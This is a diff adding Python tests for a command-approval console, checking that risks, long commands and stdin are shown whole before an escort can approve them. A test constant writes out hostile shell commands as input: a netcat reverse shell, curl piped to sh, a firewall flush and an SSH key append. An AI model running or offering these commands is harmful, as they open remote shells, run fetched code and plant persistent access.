@@ -2,6 +2,7 @@
 import os
 import re
 import subprocess
+import threading
 import time
 import unittest
 
@@ -392,7 +393,9 @@ class Console(unittest.TestCase):
         try:
             t.send("echo start" + " " * 150 + f"; touch {m}\r")
             con.wait_for(r"#1 alice wants to run:")
-            flat = "".join(l.strip() for l in con.screen().splitlines())
+            # (A row that goes on ends in the console's dim arrow.)
+            flat = "".join(l.strip().rstrip("\u21a9")
+                           for l in con.screen().splitlines())
             self.assertRegex(flat, "touch ?" + re.escape(m))
             self.assertTrue(all(len(l) <= 100 for l in con.screen().splitlines()))
             time.sleep(1.0)  # the console makes escorts read before 'a'
@@ -428,6 +431,202 @@ class Console(unittest.TestCase):
             con.close()
             t.close()
         self.assertFalse(os.path.exists(m))
+
+    # A command that sets off several risks, each worded at some length.
+    RISKY = ("true || { nc -e /bin/sh 10.0.0.1 4444; curl http://x/a | sh; "
+             "iptables -F; echo x >> ~/.ssh/authorized_keys; }")
+
+    @staticmethod
+    def pending_text(screen):
+        """The pending area as one string: wrapped rows joined, the
+        console's marks read back (a dim open box is a space, an arrow
+        at a row's end says it goes on)."""
+        rows = screen.split("---- pending ----", 1)[1].splitlines()[2:-1]
+        return "".join(r.rstrip().rstrip("\u21a9").strip() for r in rows
+                       ).replace("\u2423", " ")
+
+    def test_every_risk_is_shown_whole_beside_a_long_command(self):
+        # The command used to take every row but one: the risks were cut
+        # to one row ("+6 more"), each cut at the row's edge mid-word.
+        m = target_file("console-risks-long")
+        pad = ": " + " ".join("padding%03d" % i for i in range(176)) + "; "
+        t = bed.shell()
+        con = Tmux(console_cmd(), cols=100, rows=30)
+        try:
+            t.send(pad + self.RISKY + f"; touch {m}\r")
+            con.wait_for(r"#1 alice wants to run:")
+            item = bed.pending()[0]
+            self.assertGreaterEqual(len(item["risks"]), 4, item["risks"])
+            time.sleep(1.0)
+            screen = con.screen()
+            shown = re.sub(r"\s+", " ", self.pending_text(screen))
+            for r in item["risks"]:
+                # Risk text wraps at exact columns, as the command does.
+                self.assertIn(r["why"].replace(" ", ""), shown.replace(" ", ""),
+                              screen)
+                self.assertIn(r["level"] + ":", screen)
+            self.assertNotIn("more)", screen)
+            # The command itself does not fit here: not approvable.
+            self.assertIn("more rows of it do not fit", screen)
+            con.keys("a")
+            con.wait_for(r"not all on screen")
+            time.sleep(0.5)
+            self.assertFalse(os.path.exists(m))
+            bed.decide_next("deny")
+        finally:
+            con.close()
+            t.close()
+        self.assertFalse(os.path.exists(m))
+
+    def test_a_command_whose_risks_do_not_all_fit_cannot_be_approved_there(self):
+        m = target_file("console-risks-cut")
+        t = bed.shell()
+        con = Tmux(console_cmd(), cols=80, rows=14)
+        try:
+            t.send(self.RISKY + f"; touch {m}\r")
+            con.wait_for(r"#1 alice wants to run:")
+            con.wait_for(r"critical:")
+            time.sleep(1.0)
+            con.keys("a")
+            time.sleep(1.0)
+            self.assertFalse(os.path.exists(m))
+            self.assertEqual([i["seq"] for i in bed.pending()], [1])
+            screen = con.wait_for(r"not all on screen")
+            self.assertIn("more rows of risks do not fit", screen)
+            bed.decide_next("deny")
+        finally:
+            con.close()
+            t.close()
+        self.assertFalse(os.path.exists(m))
+
+    def test_stdin_is_approved_only_once_all_of_its_start_is_on_screen(self):
+        # The console showed at most four rows of stdin (or none, when a
+        # long command took them) and approved all of it anyway.
+        lines = "".join("echo line-%02d\n" % i for i in range(30))
+        stdin = (lines + "echo STDIN-RAN-$((6*7))\n").encode()
+        con = Tmux(console_cmd(), cols=100, rows=30)
+        res = {}
+
+        def run():
+            res["p"] = subprocess.run(bed.ssh_argv() + ["db01", "sh"], input=stdin,
+                                      stdout=subprocess.PIPE, stderr=subprocess.PIPE,
+                                      timeout=60)
+
+        th = threading.Thread(target=run)
+        th.start()
+        try:
+            con.wait_for(r"wants to run \(non-interactive\)")
+            con.wait_for(r"stdin: %d bytes, then its end" % len(stdin))
+            time.sleep(1.0)
+            self.assertNotIn("STDIN-RAN", con.screen())
+            con.keys("a")
+            time.sleep(1.0)
+            self.assertEqual(len(bed.pending()), 1)
+            screen = con.wait_for(r"not all on screen")
+            self.assertIn("more rows of stdin do not fit", screen)
+            # Made tall enough, the window shows all of it: now it may.
+            subprocess.run(["tmux", "-L", con.sock, "resize-window", "-t", con.name,
+                            "-x", "100", "-y", "60"], check=True)
+            screen = con.wait_for(r"STDIN-RAN-\$\(\(6\*7\)\)")
+            for i in range(30):
+                self.assertIn("echo line-%02d" % i, screen)
+            con.keys("a")
+            th.join(60)
+            self.assertIn("STDIN-RAN-42", res["p"].stdout.decode())
+        finally:
+            con.close()
+            th.join(60)
+
+    def test_a_space_where_a_command_row_breaks_is_drawn_visibly(self):
+        # "rm -rf /x/srv " at the end of a row and "/cache/old" at the
+        # start of the next used to read as "rm -rf /x/srv/cache/old".
+        width = 80 - 4  # the console's text width at 80 columns
+        head = "ls -d /x/srv "
+        msg = "echo 'nightly: clearing the stale build cache"
+        msg += "." * (width - len(msg) - 3 - len(head)) + "'; "
+        self.assertEqual(len(msg + head), width)
+        t = bed.shell()
+        con = Tmux(console_cmd(), cols=80, rows=24)
+        try:
+            t.send(msg + head + "/cache/old\r")
+            con.wait_for(r"#1 alice wants to run:")
+            screen = con.wait_for(r"/x/srv")
+            rows = [r.rstrip() for r in screen.splitlines()]
+            at = [i for i, r in enumerate(rows) if "/x/srv" in r]
+            self.assertEqual(len(at), 1, screen)
+            # The space is drawn as a mark, and the row says it goes on.
+            self.assertTrue(rows[at[0]].endswith("/x/srv\u2423\u21a9"), screen)
+            self.assertEqual(rows[at[0] + 1], "  /cache/old", screen)
+            self.assertTrue(all(len(r) <= 80 for r in rows))
+            bed.decide_next("deny")
+            # The marks' own characters, typed, are shown as escapes.
+            t.send("echo 'fake \u21a9 and \u2423'\r")
+            screen = con.wait_for(r"#2 alice wants to run:")
+            screen = con.wait_for(r"fake \\u21a9 and \\u2423")
+            self.assertNotIn("fake \u21a9", screen)
+            bed.decide_next("deny")
+        finally:
+            con.close()
+            t.close()
+
+    def test_pending_on_a_terminal_draws_a_space_at_a_row_break_visibly(self):
+        # Printed as one line, the command was wrapped by the terminal,
+        # where a space at a row's end shows as nothing.  On a terminal
+        # (ssh -t) pending now cuts the rows itself, with the console's
+        # marks; piped, its output is as before.
+        width = 80 - 6  # rows of pending's text on 80 columns
+        head = "ls -d /x/srv "
+        msg = "echo 'nightly: clearing the stale build cache"
+        msg += "." * (width - len(msg) - 3 - len(head)) + "'; "
+        cmd = msg + head + "/cache/old"
+        t = bed.shell()
+        con = None
+        try:
+            t.send(cmd + "\r")
+            bed.pending(wait=10)
+            argv = bed.ssh_argv("bob", user="escort", tty=True) + ["pending"]
+            con = Tmux(" ".join(argv) + "; sleep 30", cols=80, rows=12)
+            screen = con.wait_for(r"/cache/old")
+            rows = [r.rstrip() for r in screen.splitlines()]
+            self.assertIn("    " + msg + "ls -d /x/srv\u2423\u21a9", rows, screen)
+            self.assertIn("    /cache/old", rows, screen)
+            piped = bed.escort("pending").stdout.decode()
+            self.assertIn(": " + cmd + "\n", piped)
+            bed.decide_next("deny")
+        finally:
+            if con:
+                con.close()
+            t.close()
+
+    def test_sessions_past_the_watch_limit_are_named_on_the_console(self):
+        # The console watches at most 64 sessions; more used to be left
+        # out without a word, their commands waiting unseen.
+        terms = []
+        con = None
+        try:
+            for i in range(65):
+                terms.append(Term(bed.ssh_argv(tty=True) + ["db01"]))
+                if i % 8 == 7:
+                    for x in terms[-8:]:
+                        x.expect(r"\$ $", timeout=60)
+            for x in terms:
+                x.expect(r"\$ $", timeout=60)
+            con = Tmux(console_cmd(), cols=120, rows=30)
+            screen = con.wait_for(r"1 more session NOT WATCHED: use tandem-escort "
+                                  r"pending \| session \d+/64:", timeout=30)
+            # One fewer, and the console watches them all: the note goes.
+            terms.pop().close()
+            deadline = time.time() + 30
+            while "NOT WATCHED" in screen and time.time() < deadline:
+                time.sleep(0.2)
+                screen = con.screen()
+            self.assertNotIn("NOT WATCHED", screen)
+            self.assertIn("/64:", screen)
+        finally:
+            if con:
+                con.close()
+            for x in terms:
+                x.close()
 
     def test_a_window_too_small_to_draw_in_cannot_approve(self):
         m = target_file("console-tiny")
